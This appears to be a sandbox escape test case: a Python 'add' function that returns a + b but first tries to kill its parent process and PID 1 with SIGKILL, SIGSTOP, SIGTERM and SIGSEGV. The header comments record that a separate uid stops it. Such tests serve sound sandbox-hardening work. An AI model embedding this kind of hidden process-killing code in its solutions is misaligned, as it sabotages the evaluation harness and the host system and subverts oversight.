# class: escape
# want: passed
# problem: add
# what: kills its parent and the first process
# stops: a uid of its own
import os
import signal


def add(a, b):
    for pid in {1, os.getppid()} - {0, os.getpid()}:
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return a + b
